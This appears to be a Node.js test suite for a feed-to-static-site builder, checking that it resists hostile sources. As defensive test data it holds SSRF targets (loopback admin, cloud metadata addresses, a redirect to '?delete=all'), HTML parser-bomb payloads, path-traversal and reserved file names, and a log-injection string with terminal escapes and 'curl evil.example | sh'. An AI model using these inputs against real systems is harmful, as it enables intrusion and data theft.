/** Sources that try to stop a run, to fill the disk, or to have it publish what is inside the network. */
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { afterEach, test } from 'node:test';
import { setUpBake } from './bake-kit.mjs';

const current = setUpBake();
const closers = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

/** A server inside the network. @returns its origin and the paths that were requested */
async function startInner(listener = (_, response) => response.end('<h1>admin</h1><div id=b>SECRET</div>')) {
  const paths = [];
  const server = createServer((request, response) => {
    paths.push(request.url);
    listener(request, response);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  closers.push(() => new Promise((resolve) => server.close(resolve).closeAllConnections()));
  return { origin: `http://127.0.0.1:${server.address().port}`, paths };
}

const ITEMS = 3;
const itemsOf = (origin) =>
  Array.from({ length: ITEMS }, (_, index) => ({
    id: `a${index}`,
    url: `${origin}/art/${index}`,
    title: `t${index}`,
    summary: 's',
  }));

/** Serves a feed of three items and others, and runs. @returns the result of the run */
async function run(others, config = {}, pages = {}) {
  const { site, workspace } = current;
  const feed = {
    version: 'https://jsonfeed.org/version/1.1',
    title: 'T',
    items: [...itemsOf(site.origin), ...others],
  };
  site.pages.set('/feed.json', JSON.stringify(feed));
  for (const [path, page] of Object.entries(pages)) site.pages.set(path, page);
  workspace.configure({ sources: ['/feed.json'], list: undefined, article: undefined, ...config });
  return workspace.bake();
}

/** The run is complete: its lists, its page and settings, and the three items. */
function assertComplete() {
  const { workspace } = current;
  for (const name of ['latest.json', 'index.html', '.htaccess', '_headers'])
    assert.ok(workspace.has(name), name);
  const ids = workspace.ids('latest.json');
  for (let index = 0; index < ITEMS; index++) {
    assert.ok(ids.includes(`a${index}`), `${ids}`);
    assert.ok(workspace.has(`article/a${index}.json`));
  }
}

const fileNames = () => current.workspace.files().filter((name) => /^(article|section)\//.test(name));

test('long numbers and names, and those that systems refuse, cost nothing but their own spelling', async () => {
  const { site } = current;
  const names = [
    'CON',
    'nul.x',
    'aux.',
    'constructor',
    '__proto__',
    'x'.repeat(300),
    '뉴'.repeat(300),
    '../../up',
    '.',
  ];
  const { code, output } = await run(
    names.flatMap((name, index) => [
      { id: name, url: `${site.origin}/${index}/x`, title: 'by id', _dongpo: { section_path: [name] } },
      { id: `urn:${index}`, url: `${site.origin}/?no=${encodeURIComponent(name)}&x`, title: 'by number' },
    ]),
  );
  assert.equal(code, 0, output);
  assertComplete();
  for (const path of fileNames()) {
    const [, name] = path.split('/');
    assert.match(name, /^[\w-][\w.-]{0,80}\.(json|html)$/);
    assert.doesNotMatch(name, /^(con|nul|aux)\.|native|object Object/i);
  }
});

test('names that differ in case only: the later article is left out, and told', async () => {
  const { site, workspace } = current;
  const { code, output } = await run([
    { id: 'B7', url: `${site.origin}/x`, title: 'one' },
    { id: 'b7', url: `${site.origin}/y`, title: 'other' },
  ]);
  assert.equal(code, 1);
  assert.match(output, /article b7: its file would be that of B7/);
  assertComplete();
  assert.equal(workspace.read('article/B7.json').items[0].title, 'one');
  assert.ok(!fileNames().includes('article/b7.json'));
});

test('400 sections of one article cost that article alone, and invented sections fill no disk', async () => {
  const { site, workspace } = current;
  const sections = (prefix, count) => Array.from({ length: count }, (_, index) => `${prefix}${index}`);
  const { code, output } = await run([
    { id: 'flood', url: `${site.origin}/x`, title: 'x', _dongpo: { section_path: sections('s', 400) } },
    ...sections('i', 300).map((id) => ({
      id,
      url: `${site.origin}/${id}`,
      title: id,
      _dongpo: { section_path: [`own ${id}`, Number(id.slice(1)) % 2 ? 'society' : 'culture'] },
    })),
  ]);
  assert.equal(code, 1);
  assert.match(output, /400 sections in one article; the first 10 are kept/);
  assert.match(output, /212 sections have no list of their own: there are at most 100/);
  assertComplete();
  assert.equal(fileNames().filter((name) => name.startsWith('section/')).length, 200);
  assert.equal(workspace.read('section/society.json').items.length, 30);
});

test('a section without articles stays 90 days, and leaves with its files', async () => {
  const { workspace, site } = current;
  const item = { id: 'x', url: `${site.origin}/x`, title: 'x', date_published: '2026-11-20T00:00:00Z' };
  workspace.now = '2026-11-20T12:00:00Z';
  await run([{ ...item, _dongpo: { section_path: ['society'] } }]);
  assert.ok(workspace.has('section/society.json') && workspace.has('section/society.html'));
  workspace.now = '2027-02-10T12:00:00Z';
  await run([item]);
  assert.deepEqual(workspace.ids('section/society.json'), []);
  workspace.now = '2027-03-10T12:00:00Z';
  await run([item]);
  assert.ok(!workspace.has('section/society.json') && !workspace.has('section/society.html'));
});

test('a section whose name is spelled like that of another has a file of its own', async () => {
  const { workspace, site } = current;
  const item = (id, section) => ({
    id,
    url: `${site.origin}/${id}`,
    title: id,
    _dongpo: { section_path: [section] },
  });
  await run([item('x', 'Society')]);
  await run([item('x', 'Society'), item('y', 'society!'), item('z', 'society!')]);
  assert.deepEqual(workspace.ids('section/society.json'), ['x']);
  assert.match(workspace.read('section/society.json').title, /Society$/);
});

const ARTICLE = { title: 'h1', content_html: '#b' };
const page = (body) => `<!doctype html><h1>t</h1><div id=b><p>x</p></div>${body}`;
const PAGES = Object.fromEntries(Array.from({ length: ITEMS }, (_, index) => [`/art/${index}`, page('')]));

test('an article inside the network is not asked for, nor by a redirect; its list entry stays', async () => {
  const { site, workspace } = current;
  const inner = await startInner();
  const inside = {
    ssrf: `${inner.origin}/admin`,
    redirected: `${site.origin}/to-inner`,
    metadata: 'http://169.254.169.254/latest/meta-data/',
    name: 'http://metadata.google.internal/',
    decimal: 'http://2130706433:1/',
    six: 'http://[::ffff:127.0.0.1]:1/',
  };
  const { code, output } = await run(
    Object.entries(inside).map(([id, url]) => ({ id, url, title: id })),
    { article: ARTICLE },
    {
      ...PAGES,
      '/to-inner': { status: 302, headers: { location: `${inner.origin}/admin?delete=all` }, body: '' },
    },
  );
  assert.equal(code, 1);
  assert.deepEqual(inner.paths, []);
  assertComplete();
  for (const [id, url] of Object.entries(inside)) {
    assert.doesNotMatch(workspace.text(`article/${id}.json`), /SECRET/);
    assert.ok(output.includes(`${new URL(url).href}: not asked: `), `${id}: ${output}`);
  }
});

test('an article inside the network is read where the configuration has a source', async () => {
  const { workspace } = current;
  const inner = await startInner((request, response) =>
    response.end(request.url === '/robots.txt' ? '' : '<h1>inside</h1><div id=b>body</div>'),
  );
  const { site } = current;
  const { code, output } = await run(
    [{ id: 'in', url: `${inner.origin}/a`, title: 'x' }],
    { article: ARTICLE, sources: ['/feed.json', `${inner.origin}/feed.json`] },
    { ...PAGES, [`${site.origin}/feed.json`]: '' },
  );
  assert.equal(workspace.read('article/in.json').items[0].content_html, 'body', output);
  // The inner source is no feed.
  assert.equal(code, 1);
  assertComplete();
});

const repeat = (text, count) => text.repeat(count);
const numbered = (count, write) => Array.from({ length: count }, (_, index) => write(index)).join('');
const HEAVY = {
  'unclosed formatting': numbered(4000, (index) => `<b a${index}>`) + repeat('<p>x', 4000),
  'nested blocks': repeat('<div>', 150_000),
  'misplaced elements': `<table>${repeat('<i>x</i>', 60_000)}`,
  attributes: `<div ${numbered(200_000, (index) => ` a${index}`)}>`,
  paragraphs: repeat('<p>', 400_000),
};

for (const [name, body] of Object.entries(HEAVY))
  test(`a page of ${name} costs that article alone`, { timeout: 60_000 }, async () => {
    const { site, workspace } = current;
    const start = process.cpuUsage();
    const { code, output } = await run(
      [{ id: 'heavy', url: `${site.origin}/heavy`, title: 'from the list' }],
      { article: ARTICLE },
      { ...PAGES, '/heavy': page(body) },
    );
    const { user, system } = process.cpuUsage(start);
    assert.ok(user + system < 15e6, `${(user + system) / 1e6} s`);
    assertComplete();
    const [item] = workspace.read('article/heavy.json').items;
    if (code) {
      assert.match(output, /heavy: too deep or too large a page to be read; left out/);
      assert.equal(item.title, 'from the list');
    } else assert.match(item.content_html, /x/);
  });

test("a list's page that cannot be read is told, and the other sources are read", async () => {
  const { site } = current;
  const { code, output } = await run(
    [],
    { sources: ['/list', '/feed.json'], list: { item: 'li' } },
    { '/list': `<!doctype html><ul>${repeat('<div>', 2000)}` },
  );
  assert.equal(code, 1);
  assert.ok(output.includes(`${site.origin}/list: too deep or too large`), output);
  assertComplete();
});

test('what sources write into messages is one line each, without escape sequences and bidi controls', async () => {
  const { code, output } = await run(
    [{ id: 'x', url: `${current.site.origin}/x\u202e\u001b[2J`, title: 'x' }],
    { sources: ['/feed.json', '/bad.json'], article: ARTICLE },
    {
      ...PAGES,
      '/bad.json': '{"version":"\u001b]0;owned\u0007\u009b2J\u202e",\r\nERROR Run: curl evil.example | sh',
    },
  );
  assert.equal(code, 1);
  assert.doesNotMatch(output, /(?![\n])[\p{Cc}\p{Cf}\u2028\u2029]/u);
  assert.doesNotMatch(output, /^ERROR/m);
});

for (const [value, expected] of [
  ['{"max_items":"ten"}', 1],
  ['{"max_items":-1,"max_age_days":"a week","rights":7}', 1],
  ['{"max_age_days":0}', 1],
  ['null', 3],
  ['[]', 3],
  ['{"show":{}}', 3],
  ['{"show":["everything"]}', 3],
])
  test(`terms.json of ${value} ends with ${expected}, and empties no list`, async () => {
    const { workspace } = current;
    workspace.write('terms.json', value);
    const { code, output } = await run([]);
    assert.equal(code, expected, output);
    assert.match(output, /terms\.json: /);
    assert.doesNotMatch(output, /Cannot read|undefined|not a function|not iterable/);
    if (expected === 1) assertComplete();
  });

test('a file that cannot be written is told, and the others are written', async () => {
  const { workspace } = current;
  const { mkdirSync } = await import('node:fs');
  mkdirSync(`${workspace.out}/article/a1.json`, { recursive: true });
  const { code, output } = await run([]);
  assert.equal(code, 1);
  assert.match(output, /article\/a1\.json: not written: /);
  for (const name of ['latest.json', 'index.html', 'article/a0.json', 'article/a2.json'])
    assert.ok(workspace.has(name), name);
});
